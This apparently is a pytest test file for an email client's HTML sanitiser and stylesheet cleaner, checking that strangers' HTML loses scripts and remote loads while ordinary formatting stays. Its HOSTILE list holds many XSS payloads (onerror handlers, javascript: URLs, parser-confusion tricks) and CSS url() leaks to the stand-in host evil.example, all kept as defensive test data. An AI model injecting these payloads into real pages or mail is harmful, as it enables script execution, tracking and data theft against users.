"""HTML of strangers: nothing runs, nothing loads, nothing leaves its frame; and what people write in it stays."""

from __future__ import annotations

import re
import time

import pytest

from bitmail.sanitiser import sanitise, sanitise_written
from bitmail.stylesheets import clean_declarations, clean_stylesheet

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><svg/onload=alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></use></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>x</script>'>x</a>",
    "<map><area href='javascript:alert(1)'></map>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>x</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video poster='https://evil.example/p.png'><source src='https://evil.example/v'></video>",
    "<audio src='https://evil.example/a'></audio>",
    "<picture><source srcset='https://evil.example/p.png'><img src='https://evil.example/p.png'></picture>",
    "<image src='https://evil.example/p.png'>",
    "<img srcset='https://evil.example/p.png 2x' src=''>",
    "<input type=image src='https://evil.example/p.png'>",
    "<table background='https://evil.example/p.png'><td background='https://evil.example/p.png'>x</table>",
    "<div style='background:url(https://evil.example/p.png)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/p.png)'>x</div>",
    "<div style='background:image-set(\"https://evil.example/p.png\" 1x)'>x</div>",
    "<div style='list-style:url(https://evil.example/p.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<style>p{background:url(https://evil.example/p.png)}</style>",
    "<style>p{color:red}</style><style></sty</style><img src=x onerror=alert(1)></style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>a[href='x']{color:red;background:url('https://evil.example/leak')}</style>",
    "<style>p{color:red}</style><style>p{}</style>{}*{background:url(//evil.example)}</style>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href='/leave'>x</a><img src='/leave'><a href='//evil.example'>x</a>",
    "<p id=app name=cookie class=x>x</p>",
]
_HARMFUL = re.compile(
    r"<(?!/?(?:a|b|blockquote|br|details|div|em|hr|i|img|p|pre|span|summary|table|tbody|td|tr|u|text)\b)[a-z]"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|evil\.example|srcset|background|position|expression|@import|url\("
    r"|\bid=|src=\"(?!data:image/gif|/mail/)|href=\"(?!https?://|/compose\?|tel:)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_is_shown_without_what_is_hostile(markup: str) -> None:
    clean = sanitise(f"before {markup} after")
    shown = clean.html.replace("&lt;", "").replace("&gt;", "")
    tags = "".join(re.findall(r"<[^>]*>", shown))
    assert not _HARMFUL.search(tags), clean.html
    assert "before" in clean.html
    assert not re.search(r"[<>\\@]|url|evil", clean.css.replace(" > ", "").replace("@media", "")), clean.css


def test_what_people_write_in_html_stays() -> None:
    markup = (
        "<h1 align=center>Hi</h1><p dir=rtl style='color: #333; text-align: center'>مرحبا</p>"
        "<table border=1 bgcolor='#eee'><tr><td colspan=2 width=100>x</td></tr></table>"
        "<ul><li>one</li></ul><a href='https://example.com/?a=1&b=2'>link</a>"
    )
    clean = sanitise(markup)
    for kept in (
        '<h1 align="center">Hi</h1>',
        'dir="rtl"',
        "color: #333; text-align: center",
        'colspan="2"',
        'bgcolor="#eee"',
        "<li>one</li>",
        'href="https://example.com/?a=1&amp;b=2"',
        'rel="noopener noreferrer"',
        'target="_blank"',
    ):
        assert kept in clean.html


def test_remote_images_wait_until_they_are_allowed() -> None:
    markup = "<img src='https://example.com/a.png'><img src='HTTP://example.com/b.gif'><img src='cid:x%40y'>"
    held = sanitise(
        markup, inline=lambda content_id: "/mail/1/file/0?show=1" if content_id == "x@y" else None
    )
    assert (held.blocked, "example.com" in held.html) == (2, False)
    assert 'src="/mail/1/file/0?show=1"' in held.html
    shown = sanitise(markup, images=True)
    assert (shown.blocked, shown.html.count("example.com")) == (0, 2)
    assert 'referrerpolicy="no-referrer"' in shown.html


def test_remote_images_of_styles_wait_until_they_are_allowed() -> None:
    elsewhere = "https://example.com/a.png?x=1"
    markup = (
        f"<style>p {{background-image: url('{elsewhere}')}} i {{background: url(/x.png)}}</style>"
        f"<td style='color: red; background: #fff url({elsewhere}) no-repeat'>x</td>"
        f'<p style=\'border: url({elsewhere}); list-style: url(javascript:1), url("{elsewhere}\\")")\'>y</p>'
    )
    held = sanitise(f"<table><tr>{markup}</table>")
    assert (held.blocked, "example.com" in held.html + held.css) == (2, False)
    assert "color: red; background: #fff  no-repeat" in held.html
    shown = sanitise(f"<table><tr>{markup}</table>", images=True)
    assert shown.blocked == 0
    assert shown.css == f'p {{background-image: url("{elsewhere}")}}'
    assert shown.html.count("example.com") == 1
    assert "javascript" not in shown.html
    assert "example.com" not in sanitise_written(markup)


def test_a_mail_to_link_begins_a_new_mail() -> None:
    clean = sanitise("<a href='mailto:a@example.com?subject=Hi&body=x'>write</a>")
    assert 'href="/compose?mailto=mailto%3Aa%40example.com%3Fsubject%3DHi%26body%3Dx"' in clean.html


def test_a_long_quotation_is_folded_unless_it_is_all_there_is() -> None:
    quoted = f"<blockquote>{'long ' * 100}<blockquote>inner</blockquote></blockquote>"
    assert sanitise(f"<p>Yes.</p>{quoted}").html.count("<details>") == 1
    assert "<details>" not in sanitise(quoted).html
    assert "<details>" not in sanitise("<p>Yes.</p><blockquote>short</blockquote>").html
    assert sanitise("</blockquote></blockquote><p>x</p>").html == "<p>x</p>"


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; position: fixed", "color: red"),
        ("COLOR: RED !important", "color: RED !important"),
        ("margin: 0 auto; padding-left: 3px", "margin: 0 auto; padding-left: 3px"),
        ("width: calc(100% - 3px)", "width: calc(100% - 3px)"),
        ("background: linear-gradient(red, blue)", "background: linear-gradient(red, blue)"),
        ("background: linear-gradient(url(x), blue)", ""),
        ("color: red; } body { display: none", "color: red"),
        ("--x: url(y); content: 'z'", ""),
        ("color: var(--x)", ""),
        ("font-family: 'A</style>'", ""),
    ],
)
def test_declarations_are_kept_by_an_allow_list(style: str, kept: str) -> None:
    assert clean_declarations(style) == kept


def test_a_style_sheet_keeps_its_media_queries() -> None:
    sheet = (
        "<!-- p{color:red} @media (max-width: 600px) { .a > td { width: 100% } } @supports (x) { p{} } -->"
    )
    assert clean_stylesheet(
        sheet
    ) == "p {color:red}\n@media (max-width: 600px) {.a > td {width: 100%}}".replace("color:red", "color: red")


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000,
        "<blockquote>" * 50_000,
        "<ul><li>" * 100_000,
        "<i></p>" * 100_000,
        "<a href='" * 100_000,
        "<style>" * 100_000,
        f"<style>{'a{' * 90_000}</style>",
        f"<p style='{'color:red;' * 19_000}'>",
        "<" * 1_000_000,
        "&" * 1_000_000,
        "&amp;" * 200_000,
    ],
    ids=lambda markup: markup[:12],
)
def test_time_is_bounded_for_any_html(markup: str) -> None:
    began = time.process_time()
    sanitise(markup)
    assert time.process_time() - began < 20


def test_a_text_of_entities_is_shown_as_its_letters() -> None:
    assert (
        sanitise("<b>&#1055;&#x438;&lt;b&gt;</b>" * 6000).html.count("<b>\u041f\u0438&lt;b&gt;</b>") == 6000
    )


def test_what_is_written_keeps_its_images_and_loses_its_scripts() -> None:
    written = sanitise_written(
        "<p>Hi<script>x</script></p><img src='cid:a@b'><img src='https://example.com/a.png' onerror=x>"
        "<a href='mailto:a@example.com'>m</a><a href='javascript:x'>j</a>"
    )
    assert written == (
        '<p>Hi</p><img src="cid:a@b"><img src="https://example.com/a.png">'
        '<a href="mailto:a@example.com">m</a><a>j</a>'
    )
